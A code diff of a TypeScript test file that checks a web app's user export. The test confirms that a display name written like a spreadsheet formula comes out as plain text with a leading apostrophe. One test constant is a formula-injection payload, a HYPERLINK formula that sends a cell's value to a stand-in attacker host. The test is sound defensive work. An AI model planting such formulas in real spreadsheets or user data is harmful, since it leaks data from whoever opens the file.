@@ -4,26 +4,16 @@ import path from 'node:path';
 import ExcelJS from 'exceljs';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { openErrorReportFile } from '../src/modules/title-import/title-import-report';
-import { testAppSuite } from './helpers/app-suite';
-import { authed, createOrganisation, createUser, login, type Session } from './helpers/factories';
+import { signedInRequests, testAppSuite } from './helpers/app-suite';
+import { createOrganisation, provincialAdmin, type Session } from './helpers/factories';
 
 const s = testAppSuite();
 let admin: Session;
 let employerId: string;
+const api = signedInRequests(() => s.t);
 beforeAll(async () => {
-  const province = await createOrganisation(s.t.database.db, {
-    kind: 'hr-bureau',
-    employerKind: 'government',
-    jurisdictionCode: '210000',
-  });
+  admin = await provincialAdmin(s.t);
   employerId = (await createOrganisation(s.t.database.db, { name: '鞍山恒信通信工程有限公司' })).id;
-  await createUser(s.t.database.db, {
-    username: 'root',
-    roles: ['admin'],
-    organisationId: province.id,
-    jurisdictionCode: '210000',
-  });
-  admin = await login(s.t.app, 'root');
 });
 
 async function sheetValues(
@@ -44,25 +34,16 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"详情")';
 
 describe('a formula typed into a form comes out of every export as text', () => {
   it('the users export: a display name that starts like a formula is written with an apostrophe', async () => {
-    const created = await s.t.app.inject({
-      method: 'POST',
-      url: '/api/v1/admin/users',
-      headers: authed(admin),
-      payload: {
-        username: 'formula',
-        displayName: HYPERLINK,
-        password: 'Passw0rd123',
-        roles: ['employer'],
-        organisationId: employerId,
-        jurisdictionCode: '210302',
-      },
+    const created = await api.post(admin, '/api/v1/admin/users', {
+      username: 'formula',
+      displayName: HYPERLINK,
+      password: 'Passw0rd123',
+      roles: ['employer'],
+      organisationId: employerId,
+      jurisdictionCode: '210302',
     });
     expect(created.statusCode, created.body).toBe(201);
-    const exported = await s.t.app.inject({
-      method: 'GET',
-      url: '/api/v1/admin/users/export',
-      headers: authed(admin),
-    });
+    const exported = await api.get(admin, '/api/v1/admin/users/export');
     expect(exported.statusCode).toBe(200);
     const cells = await sheetValues(exported.rawPayload);
     expect(cells).toContainEqual({ type: ExcelJS.ValueType.String, value: `'${HYPERLINK}` });
